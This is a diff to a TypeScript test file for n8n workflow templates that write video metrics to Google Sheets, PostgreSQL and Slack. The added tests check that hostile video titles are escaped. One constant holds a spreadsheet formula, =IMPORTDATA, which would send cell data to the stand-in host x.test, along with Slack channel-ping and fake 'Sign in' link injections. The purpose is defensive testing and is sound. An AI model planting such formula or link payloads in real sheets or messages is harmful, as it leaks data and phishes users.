@@ -28,6 +28,10 @@ const ONE_OF_EACH = [
 	INSTAGRAM,
 	'https://twitter.com/harbor/status/1745000000000000001',
 ];
+/** A title that a stranger may give a video: it asks Slack for a mention and a link, Google for a formula. */
+const HOSTILE = '=IMPORTDATA("https://x.test/?"&B2)\n<!channel> <https://x.test|Sign in> & more ';
+const HOSTILE_IN_SLACK =
+	'=IMPORTDATA("https://x.test/?"&amp;B2) &lt;!channel&gt; &lt;https://x.test|Sign in&gt; &amp; more';
 const DAY_MS = 24 * 3_600_000;
 /** Longest wait for a row or a message, in milliseconds. */
 const MOST_MS = 90_000;
@@ -75,7 +79,11 @@ test('"Track links from a Google Sheet" writes the outcomes and tracks each vide
 
 test('"New snapshots to Google Sheets" writes each snapshot to one row', async () => {
 	const sandbox = await openSandbox({ snapshotIntervalMs: 5_000 });
-	ONE_OF_EACH.forEach((video_link) => sandbox.seedVideo({ video_link, started: ago(20_000) }));
+	const titles = [HOSTILE, '+1', '@all', '-2+3'];
+	for (const [index, video_link] of ONE_OF_EACH.entries())
+		sandbox
+			.seedVideo({ video_link, started: ago(20_000) })
+			.override({ current_metadata: { title: titles[index] } });
 	const workflow = await importTemplate('new-snapshots-to-google-sheets', sandbox);
 	await whilePublished(workflow, async () => {
 		const taken = await takenSoFar(sandbox, 10_000);
@@ -85,7 +93,9 @@ test('"New snapshots to Google Sheets" writes each snapshot to one row', async (
 			() => missingOf(taken, sink.sheets.get('Snapshots')).length === 0,
 		);
 	});
-	expectTheRowsOf(sandbox, sink.sheets.get('Snapshots')!);
+	const rows = sink.sheets.get('Snapshots')!;
+	expectTheRowsOf(sandbox, rows);
+	expect([...new Set(rows.map(({ title }) => title))].sort()).toEqual([...titles].sort());
 });
 
 describe('"New snapshots to PostgreSQL"', () => {
@@ -133,6 +143,7 @@ describe('"New snapshots to PostgreSQL"', () => {
 test('"Milestones to Slack" posts one message for each milestone', async () => {
 	const sandbox = await openSandbox({ snapshotIntervalMs: 5_000 });
 	const video = sandbox.seedVideo({ video_link: TIKTOK, started: ago(30_000) });
+	video.override({ current_metadata: { title: HOSTILE, creator: '<@U1> & co' } });
 	let jumpedAt = Infinity;
 	sandbox.faults.add({
 		kind: 'map',
@@ -153,12 +164,11 @@ test('"Milestones to Slack" posts one message for each milestone', async () => {
 		await waitFor('two messages', MOST_MS, () => sink.messages.length >= 2);
 		await sleep(12_000);
 	});
-	const { title, creator } = (await fetchFromApi(sandbox, `/videos/${video.id}`)).current_metadata;
 	const message = (mark: string) => ({
 		channel: '#campaign',
 		text:
-			`:tada: *${title}* has passed *${mark} views*\n` +
-			`${creator} · tiktok · now 123,456 views\n${TIKTOK}`,
+			`:tada: *${HOSTILE_IN_SLACK}* has passed *${mark} views*\n` +
+			`&lt;@U1&gt; &amp; co · tiktok · now 123,456 views\n${TIKTOK}`,
 	});
 	expect(sink.messages).toEqual([message('10,000'), message('100,000')]);
 });
@@ -202,6 +212,66 @@ test('"Weekly digest to Slack" posts the ten active videos that gained the most'
 	}
 	const requested = sandbox.requests.map(({ path }) => path);
 	expect(requested.filter((path) => path.includes(over.id))).toEqual([]);
+});
+
+test('"Weekly digest to Slack" escapes titles, and a video that cannot be read holds no other back', async () => {
+	const sandbox = await openSandbox({ balanceUsd: 1000 });
+	const titles = [HOSTILE, ' ', 'x'.repeat(200), 'Down'];
+	const links = ONE_OF_EACH.slice(0, 2).concat(`${TIKTOK}1`, `${TIKTOK}2`, `${TIKTOK}3`);
+	const videos = links.map((video_link, index) => {
+		const video = sandbox.seedVideo({ video_link, started: ago(3 * DAY_MS) });
+		video.override({ current_metadata: { title: titles[index] ?? 'Broken' } });
+		return video;
+	});
+	const counts = { likes: null, comments: null, shares: null, saves: null };
+	for (const [hours, views] of [
+		[2, '1500'],
+		[1, '1000'],
+	] as const)
+		videos[3]!.addSnapshot({
+			...counts,
+			views,
+			snapshot_time: new Date(ago(hours * 3_600_000)).toISOString(),
+		});
+	sandbox.faults.add({
+		kind: 'map',
+		match: { method: 'GET', path: `/videos/${videos[3]!.id}` },
+		times: Infinity,
+		map: (json) => {
+			const reply = json as { snapshots: object[] };
+			return { ...reply, snapshots: reply.snapshots.slice(-2) };
+		},
+	});
+	sandbox.faults.add({
+		kind: 'status',
+		status: 403,
+		match: { method: 'GET', path: `/videos/${videos[4]!.id}` },
+		times: Infinity,
+	});
+	const workflow = await importTemplate('weekly-digest-to-slack', sandbox);
+	await runToItsEnd(workflow, 'Every Monday at 9');
+
+	const { text } = sink.messages[0]!;
+	expect(sink.messages).toHaveLength(1);
+	expect(text).toContain(`. *${HOSTILE_IN_SLACK}* (tiktok) `);
+	expect(text).toContain(`. *${YOUTUBE}* (youtube) `);
+	expect(text).toContain(`. *${'x'.repeat(100)}* (tiktok) `);
+	expect(text).toContain('4. *Down* (tiktok) ');
+	expect(text).toContain('     -500 views (-33.3 %), now 1,000');
+	expect(text).not.toContain('Broken');
+	expect(text).toMatch(/\n1 more could not be read: open the execution in n8n to see why$/);
+
+	sandbox.clear();
+	sandbox.faults.add({
+		kind: 'status',
+		status: 403,
+		match: { path_pattern: '/videos/' },
+		times: 'always',
+	});
+	await runToItsEnd(workflow, 'Every Monday at 9');
+	expect(sink.messages[1]!.text).toBe(
+		'*Your videos this week*\n\n5 more could not be read: open the execution in n8n to see why',
+	);
 });
 
 test('"Low-balance alert" posts one message when the balance is low', async () => {
